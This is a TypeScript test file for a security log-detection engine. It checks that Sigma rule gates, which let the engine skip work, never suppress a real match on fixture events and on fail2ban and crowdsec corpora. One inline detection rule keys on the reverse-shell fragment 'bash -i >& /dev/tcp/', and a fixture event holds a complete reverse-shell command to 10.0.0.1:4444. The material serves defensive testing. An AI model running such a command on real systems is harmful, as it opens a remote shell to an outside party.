/*
 * Gates (rule-gate.ts) only skip work: a rule whose gate stays closed on an event must not
 * match it. Each test runs every rule's matcher on every event, with no gate in the way, and
 * checks that each match had its gate open.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { parseAllDocuments } from 'yaml';
import { createLogParser } from '../../../src/modules/logparse/create-log-parser.ts';
import { builtinRulesDir } from '../../../src/modules/detect/builtin-rules.ts';
import { GatedRules } from '../../../src/modules/sigma/gated-rules.ts';
import { loadRules } from '../../../src/modules/sigma/load-rules.ts';
import { MatchContext } from '../../../src/modules/sigma/match-context.ts';
import { checkedClauses } from '../../../src/modules/sigma/rule-gate.ts';
import type { DetectionRule } from '../../../src/modules/sigma/sigma-rule.ts';
import type { SecurityEvent } from '../../../src/protocol/security-event.ts';
import { corporaDir, needsCorpora } from '../../helpers/corpora.ts';
import { linuxEvent, rulesFrom } from './sigma-fixtures.ts';

interface GateRun {
  /** `rule title@event index` of each match. */
  matched: string[];
  /** Pairs whose gate stayed closed. */
  skipped: number;
  /** Matches whose gate stayed closed: must be none. */
  missed: string[];
}

function runGates(rules: readonly DetectionRule[], events: readonly SecurityEvent[]): GateRun {
  const gated = new GatedRules(rules);
  const run: GateRun = { matched: [], skipped: 0, missed: [] };
  const first = events[0];
  if (first === undefined) return run;
  const ctx = new MatchContext(first);
  events.forEach((event, at) => {
    ctx.begin(event);
    gated.open(ctx);
    rules.forEach((rule, i) => {
      const open = gated.mayMatch(i);
      if (!open) run.skipped++;
      if (!rule.matches(ctx)) return;
      run.matched.push(`${rule.title}@${at}`);
      if (!open) run.missed.push(`${rule.title} on ${JSON.stringify(event.raw_data)}`);
    });
  });
  return run;
}

const parse = (lines: readonly string[], source: string): SecurityEvent[] => {
  const parser = createLogParser();
  const referenceTime = Date.UTC(2026, 5, 1);
  return [...lines.flatMap((line) => parser.push(line, { name: source, referenceTime })), ...parser.flush()];
};

describe('rule gates', () => {
  test('a rule matching only through its keyword message, an array field or a folded case still runs', () => {
    const { rules } = rulesFrom(`title: keyword
logsource: { product: linux }
detection:
  keywords: ['bash -i >& /dev/tcp/']
  condition: keywords
---
title: array
logsource: { product: linux }
detection:
  selection: { Hashes|contains: 'ABC' }
  condition: selection
---
title: cased and negated
logsource: { product: linux }
detection:
  selection: { CommandLine|contains|cased: 'Get-' }
  filter: { CommandLine|contains: 'harmless' }
  condition: selection and not filter
---
title: one of, all of, numbers and regexes
logsource: { product: linux }
detection:
  class: { class_uid: 3002 }
  status: { status: Failure }
  regex: { CommandLine|re: '(?i)ÄX[0-9]+y' }
  condition: (class and status) or regex
---
title: keywords all
logsource: { product: linux }
detection:
  keywords:
    '|all': ['alpha', 'beta']
  condition: keywords
---
title: ungated
logsource: { product: linux }
detection:
  selection: { Image: null }
  condition: not selection
`);
    const journald = linuxEvent({
      raw_data: '{"MESSAGE":"bash -i >& \\/dev\\/tcp\\/10.0.0.1\\/4444"}',
      message: 'BASH -i >& /dev/tcp/10.0.0.1/4444',
    });
    const events = [
      journald,
      linuxEvent({ unmapped: { Hashes: ['md5=1', 'sha1=abc'] } }),
      linuxEvent({ unmapped: { Hashes: 'sha1=abc' } }),
      linuxEvent({ process: { cmd_line: 'Get-Item' }, raw_data: 'x' }),
      linuxEvent({ process: { cmd_line: 'get-item' }, raw_data: 'x' }),
      linuxEvent({ class_uid: 3002, status: 'Failure' }),
      linuxEvent({ class_uid: 3002, status: 'Success' }),
      linuxEvent({ process: { cmd_line: 'run äx12Y' } }),
      linuxEvent({ process: { cmd_line: 'İ ÄX12y' } }),
      linuxEvent({ raw_data: 'ALPHA then Beta' }),
      linuxEvent({ raw_data: 'alpha only' }),
      linuxEvent({ raw_data: 'nothing here', process: { file: { path: '/bin/sh' } } }),
    ];
    const run = runGates(rules, events);
    assert.deepEqual(run.missed, []);
    assert.deepEqual(run.matched, [
      'keyword@0',
      'array@1',
      'array@2',
      'cased and negated@3',
      'one of, all of, numbers and regexes@5',
      'one of, all of, numbers and regexes@7',
      'one of, all of, numbers and regexes@8',
      'keywords all@9',
      'ungated@11',
    ]);
    assert.equal(rules.find((rule) => rule.title === 'ungated')?.gate, undefined);
    assert.ok(run.skipped > 0);
  });

  test('an AND keeps the clauses of all its sides, an OR merges one clause of each side', () => {
    const { rules } = rulesFrom(`title: and
logsource: { product: linux }
detection:
  tools: ['scp ', 'rsync ']
  filter: ['@', ':']
  condition: tools and filter
---
title: or
logsource: { product: linux }
detection:
  one: ['scp ']
  other: { CommandLine|contains: 'rsync' }
  condition: one or other
---
title: or of and
logsource: { product: linux }
detection:
  one: ['scp ']
  colon: [':']
  other: { CommandLine|contains: 'rsync' }
  condition: (one and colon) or other
`);
    const clauses = (rule: DetectionRule | undefined): string[][] =>
      (rule?.gate ?? []).map((clause) =>
        clause.map(({ source, id }) => `${source.field.name}:${source.literalOf(id)}`),
      );
    assert.deepEqual(clauses(rules[0]), [
      ['raw_data:scp ', 'raw_data:rsync ', 'message:scp ', 'message:rsync '],
      ['raw_data:@', 'raw_data::', 'message:@', 'message::'],
    ]);
    // Checked per event: `@` or `:` is in nearly every line, so only the first clause.
    assert.deepEqual(checkedClauses(rules[0]?.gate ?? []), [rules[0]?.gate?.[0]]);
    assert.deepEqual(clauses(rules[1]), [['raw_data:scp ', 'message:scp ', 'CommandLine:rsync']]);
    assert.deepEqual(clauses(rules[2]), [['raw_data:scp ', 'message:scp ', 'CommandLine:rsync']]);
  });

  test(
    'never keep out a match of the built-in, SigmaHQ Linux or web rules on the corpora',
    needsCorpora('detect'),
    async () => {
      const corpora = join(corporaDir() ?? '', 'detect');
      const { rules } = await loadRules([
        builtinRulesDir,
        join(corpora, 'sigma/rules/linux'),
        join(corpora, 'sigma/rules/web'),
      ]);
      const events: SecurityEvent[] = [];
      for (const dir of ['fail2ban-logs', 'crowdsec-tests']) {
        for (const file of filesUnder(join(corpora, dir))) {
          const source = /nginx|apache|http/.test(file) ? '/var/log/nginx/access.log' : '/var/log/auth.log';
          events.push(...parse(readFileSync(file, 'utf8').split('\n'), source));
        }
      }
      events.push(...parse(builtinTestLines(), '/var/log/auth.log'));
      events.push(...literalEvents(rules));
      const run = runGates(rules, events);
      assert.deepEqual(run.missed, []);
      assert.ok(run.matched.length > 500, `${run.matched.length} matches`);
      assert.ok(run.skipped > run.matched.length * 100, `${run.skipped} skipped`);
    },
  );
});

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return filesUnder(path);
    return /\.(log|assert|yaml|conf)$|^[^.]+$/.test(name) && name !== 'COPYING' ? [path] : [];
  });
}

function builtinTestLines(): string[] {
  return filesUnder(builtinRulesDir)
    .concat(
      readdirSync(builtinRulesDir, { recursive: true, encoding: 'utf8' })
        .filter((name) => name.endsWith('.yml'))
        .map((name) => join(builtinRulesDir, name)),
    )
    .flatMap((file) => parseAllDocuments(readFileSync(file, 'utf8')).map((doc) => doc.toJS() as unknown))
    .flatMap((rule) => (rule as { tests?: { lines?: string }[] } | null)?.tests ?? [])
    .flatMap((test) => (test.lines ?? '').split('\n'));
}

/*
 * Lines made of every gate literal, in syslog lines and in web requests, upper-cased and as
 * written, so that many rules match and each literal is looked for where rules look.
 */
function literalEvents(rules: readonly DetectionRule[]): SecurityEvent[] {
  const literals = new Set(
    rules.flatMap(({ gate }) => (gate ?? []).flat().map(({ source, id }) => source.literalOf(id))),
  );
  const lines = [...literals].flatMap((literal) => [literal, literal.toUpperCase(), `x ${literal} İ`]);
  const syslog = lines.map((text) => `Feb 12 14:10:21 web1 bash[3000]: ${text}`);
  const access = lines.map(
    (text) =>
      `203.0.113.9 - - [12/Feb/2026:14:10:21 +0000] "GET /a?q=${text.replaceAll(' ', '%20')} HTTP/1.1" 200 1 "-" "${text}"`,
  );
  return [...parse(syslog, '/var/log/syslog'), ...parse(access, '/var/log/nginx/access.log')];
}
